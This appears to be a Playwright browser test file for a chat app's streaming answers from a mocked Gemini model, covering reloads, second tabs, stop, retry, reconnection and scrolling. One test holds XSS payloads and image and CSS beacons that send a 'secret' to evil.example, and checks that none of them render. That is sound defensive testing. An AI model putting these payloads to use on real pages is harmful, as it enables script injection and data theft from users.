"""An answer reaches whoever looks: after a reload, in a second tab, over a broken connection."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import SignUp, Visit, ask, conversation_of, said, settled, stored
from tests.browser.wire import Wire
from tests.gemini import Block, Gemini, Hold, Pause, Text
from tests.live import LiveServer, Member

STORY: list[Text | Hold] = [Text("Once "), Text("upon "), Hold(), Text("a "), Text("time")]


def begin(page: Page, gemini: Gemini, question: str = "Tell me") -> Any:
    """Ask; the answer holds after "Once upon "."""
    gemini.on(question, STORY)
    page.goto("/")
    ask(page, question)
    expect(page.locator("article.live .prose")).to_have_text("Once upon ")
    return page.locator("article.live .prose")


def test_a_reload_in_the_middle_neither_loses_nor_doubles(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    page = visit(alice)
    live = begin(page, gemini)
    for _ in range(3):
        page.reload()
        expect(live).to_have_text("Once upon ")
    gemini.release()
    settled(page)
    assert said(page) == ["Tell me", "Once upon a time"]
    assert stored(alice, conversation_of(page)) == ["Tell me", "Once upon a time"]


def test_reloads_at_any_moment_show_a_beginning_of_the_answer(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    words = [f"word{n} " for n in range(120)]
    gemini.on("count", [step for word in words for step in (Text(word), Pause(0.03))])
    page = visit(alice)
    page.goto("/")
    ask(page, "count")
    expect(page.locator("article.live .prose")).to_contain_text("word3 ")
    shown = ""
    for _ in range(5):
        page.reload()
        # at once: what the server rendered, then what the stream replays
        text = page.locator("article.assistant .prose").text_content() or ""
        assert "".join(words).startswith(text.rstrip())
        assert len(text) >= len(shown)
        expect(page.locator("article.assistant .prose")).to_contain_text(text.strip())
        shown = text
    settled(page)
    assert said(page)[1] == "".join(words).strip()


def test_a_second_tab_follows_the_same_answer(visit: Visit, alice: Member, gemini: Gemini) -> None:
    page = visit(alice)
    live = begin(page, gemini)
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator("article.live .prose")).to_have_text("Once upon ")
    gemini.release()
    for tab in (page, second):
        settled(tab)
        assert said(tab) == ["Tell me", "Once upon a time"]
    expect(live).to_have_count(0)
    assert gemini.calls_for("Tell me") == 1


def test_stop_keeps_what_was_written_in_every_tab(visit: Visit, alice: Member, gemini: Gemini) -> None:
    page = visit(alice)
    begin(page, gemini)
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator("article.live .prose")).to_have_text("Once upon ")
    second.get_by_role("button", name="Stop").click()
    for tab in (page, second):
        settled(tab)
        assert said(tab) == ["Tell me", "Once upon"]
        expect(tab.locator(".ending")).to_have_text("You stopped this answer.")
        expect(tab.get_by_role("button", name="Retry")).to_be_visible()
    assert stored(alice, conversation_of(page)) == ["Tell me", "Once upon "]


def test_regenerate_writes_a_new_answer_in_place(visit: Visit, alice: Member, gemini: Gemini) -> None:
    gemini.on("Tell me", [Text("first")], [Text("sec"), Hold(), Text("ond")])
    page = visit(alice)
    page.goto("/")
    ask(page, "Tell me")
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator("article.live .prose")).to_have_text("sec")
    assert said(page) == ["Tell me", "sec"]
    page.reload()
    expect(page.locator("article.live .prose")).to_have_text("sec")
    gemini.release()
    settled(page)
    assert said(page) == ["Tell me", "second"]


def test_an_answer_that_failed_can_be_tried_again(visit: Visit, alice: Member, gemini: Gemini) -> None:
    gemini.on("Tell me", [Text("Once "), Block("SAFETY")], [Text("Once "), Hold(), Text("more")])
    page = visit(alice)
    page.goto("/")
    ask(page, "Tell me")
    expect(page.locator(".ending")).to_have_text("The model declined to answer this.")
    expect(page.get_by_role("button", name="Retry")).to_have_count(0)
    expect(page.locator("#announcer")).to_have_text("The answer has ended.")
    assert said(page) == ["Tell me", "Once"]


@pytest.fixture
def wire(server: LiveServer) -> Iterator[Wire]:
    wire = Wire(server.url)
    yield wire
    wire.close()


def test_a_broken_connection_is_taken_up_where_it_broke(
    visit: Visit, alice: Member, gemini: Gemini, wire: Wire
) -> None:
    page = visit(alice, url=wire.url, expect_faults=["ERR_"])
    live = begin(page, gemini)
    for _ in range(2):
        wire.cut()
        expect(page.locator("#connection")).to_have_text("Reconnecting…")
        expect(live).to_have_text("Once upon ")
        wire.mend()
        expect(page.locator("#connection")).to_be_empty()
    wire.cut()
    gemini.release()  # the answer ends while nobody can read it
    expect(page.locator("#connection")).to_have_text("Reconnecting…")
    wire.mend()
    settled(page)
    expect(page.locator("#connection")).to_be_empty()
    assert said(page) == ["Tell me", "Once upon a time"]


def test_a_tab_that_nobody_looks_at_gives_its_connection_back_and_takes_it_again(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    page = visit(alice)
    page.clock.install()
    live = begin(page, gemini)
    opened: list[str] = []
    page.on("request", lambda request: opened.append(request.url) if "/events" in request.url else None)
    _show(page, hidden=True)
    page.clock.fast_forward(11_000)
    gemini.release()
    page.wait_for_timeout(700)
    expect(live).to_have_text("Once upon ")  # nothing came: nobody listens
    assert opened == []
    _show(page, hidden=False)
    settled(page)
    assert said(page) == ["Tell me", "Once upon a time"]
    (again,) = opened
    assert again.endswith("?view=html&after=3")  # and not from the beginning


def _show(page: Page, *, hidden: bool) -> None:
    page.evaluate(
        """(hidden) => {
            Object.defineProperty(document, "hidden", {configurable: true, get: () => hidden});
            document.dispatchEvent(new Event("visibilitychange"));
        }""",
        hidden,
    )


def test_who_is_signed_out_while_reading_is_told(
    visit: Visit, server: LiveServer, gemini: Gemini, sign_up: SignUp
) -> None:
    dave = sign_up(server, "dave")
    page = visit(dave, expect_faults=["401"])
    live = begin(page, gemini)
    page.context.clear_cookies(name="sessionid")
    gemini.release()
    expect(page.locator("#notice")).to_contain_text("You are signed out.")
    expect(live).to_have_text("Once upon a time")


def test_a_conversation_that_is_deleted_while_one_reads_is_told(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    page = visit(alice, expect_faults=["404"])
    begin(page, gemini)
    gone = alice.http.delete(f"/api/v1/conversations/{conversation_of(page)}", headers=alice.headers())
    assert gone.status_code == 204
    expect(page.locator("#notice")).to_have_text("This conversation is no longer there.")


def test_the_view_follows_the_words_until_one_scrolls_up(visit: Visit, alice: Member, gemini: Gemini) -> None:
    lines = [Text(f"line {n}\n\n") for n in range(60)]
    gemini.on("long", [*lines, Hold(), *lines, Hold()])
    page = visit(alice, viewport={"width": 800, "height": 600})
    page.goto("/")
    ask(page, "long")
    expect(page.locator("article.live .prose")).to_contain_text("line 59")
    view = page.locator("main")
    gap = "(view) => Math.round(view.scrollHeight - view.scrollTop - view.clientHeight)"
    assert view.evaluate(gap) <= 2
    page.mouse.move(400, 300)
    page.mouse.wheel(0, -400)
    page.wait_for_timeout(200)
    top = view.evaluate("(view) => view.scrollTop")
    gemini.release()
    settled(page)
    assert view.evaluate(gap) > 1000
    assert abs(view.evaluate("(view) => view.scrollTop") - top) <= 1


def test_nothing_that_a_model_writes_acts(visit: Visit, alice: Member, gemini: Gemini) -> None:
    hostile = """<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>

![beacon](https://evil.example/?q=secret) [link](javascript:alert(1))

<style>*{background:url(https://evil.example/x)}</style><iframe src=https://evil.example>

```"><img src=https://evil.example/y>
x
```"""
    gemini.on(hostile, [Text(hostile)])
    page = visit(alice)
    page.goto("/")
    ask(page, hostile)
    settled(page)
    expect(page.locator("article.assistant")).to_have_count(1)
    page.reload()
    assert page.locator("#messages").locator("img, script, style, iframe, svg[onload]").count() == 0


def test_six_tabs_read_at_once(visit: Visit, alice: Member, gemini: Gemini) -> None:
    """A browser has six connections a server: the one of an ask is given back when its run is known."""
    page = visit(alice)
    begin(page, gemini)
    tabs = [page]
    for _ in range(5):
        tab = page.context.new_page()
        tab.goto(page.url)
        expect(tab.locator("article.live .prose")).to_have_text("Once upon ")
        tabs.append(tab)
    gemini.release()
    for tab in tabs:
        settled(tab)
        assert said(tab) == ["Tell me", "Once upon a time"]
